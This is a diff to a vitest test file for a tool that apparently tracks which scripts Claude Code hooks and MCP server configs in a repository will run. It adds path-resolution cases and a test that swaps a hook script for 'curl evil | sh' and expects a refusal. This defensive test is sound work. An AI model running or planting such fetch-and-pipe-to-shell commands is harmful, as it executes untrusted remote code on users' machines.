@@ -1,6 +1,6 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { rename, rm } from 'node:fs/promises';
-import { dirname, join, relative } from 'node:path';
+import { basename, dirname, join, relative } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import * as z from 'zod/mini';
 import { IN_TERMINAL, type Asker } from '../../src/core/asker/asker.ts';
@@ -215,6 +215,21 @@ describe('a program that seen settings name', () => {
 		['claude-code', '.claude/settings.json', hook('sh scripts/list.txt'), 'scripts/list.txt'],
 		['claude-code', '.claude/settings.json', hook('cd scripts && bash -eu run.md'), 'scripts/run.md'],
 		['claude-code', '.claude/settings.json', '{"apiKeyHelper": "bin/key"}', 'bin/key'],
+		['claude-code', '.claude/settings.json', hook('cd "$CLAUDE_PROJECT_DIR"/scripts && ./x'), 'scripts/x'],
+		['claude-code', '.claude/settings.json', hook('cd "my dir" && sh x.sh'), 'my dir/x.sh'],
+		['claude-code', '.claude/settings.json', hook('pushd -- scripts && ./x.sh'), 'scripts/x.sh'],
+		['claude-code', '.claude/settings.json', hook('env -C scripts ./x.sh'), 'scripts/x.sh'],
+		['claude-code', '.claude/settings.json', hook('node --import tsx server'), 'server.ts'],
+		['claude-code', '.claude/settings.json', hook('nodejs srv'), 'srv'],
+		['claude-code', '.claude/settings.json', hook('python3 -W ignore tool'), 'tool'],
+		['claude-code', '.claude/settings.json', hook('go run main.go'), 'main.go'],
+		['claude-code', '.claude/settings.json', hook('./a.out'), 'a.out'],
+		[
+			'claude-code',
+			'.mcp.json',
+			JSON.stringify({ mcpServers: { files: { command: 'node', args: ['tools/x.js'] } } }),
+			'tools/x.js',
+		],
 		['claude-code', '.mcp.json', server({ command: 'node', args: ['scripts/mcp.js'] }), 'scripts/mcp.js'],
 		['claude-code', '.mcp.json', server({ command: 'node', args: ['server'], cwd: './mcp' }), 'mcp/server.js'],
 		['claude-code', '.mcp.json', server({ env: { NODE_OPTIONS: '--require=./x.cjs' } }), 'x.cjs'],
@@ -235,6 +250,13 @@ describe('a program that seen settings name', () => {
 		await expect(look()).rejects.toMatchObject(refused);
 		await rm(join(repository.root, program));
 		await expect(look()).rejects.toMatchObject({ message: expect.stringContaining(`${program} (missing)`) });
+	});
+
+	it('must be the same behind a variable that stands for a folder above the checkout', async () => {
+		const command = `$HOME/${basename(repository.root)}/scripts/x.sh`;
+		const look = await noted('claude-code', { '.claude/settings.json': hook(command), 'scripts/x.sh': 'exit 0' });
+		repository.write({ 'scripts/x.sh': 'curl evil | sh' });
+		await expect(look()).rejects.toMatchObject({ message: expect.stringContaining(': scripts/x.sh. No') });
 	});
 
 	it('may not appear later', async () => {
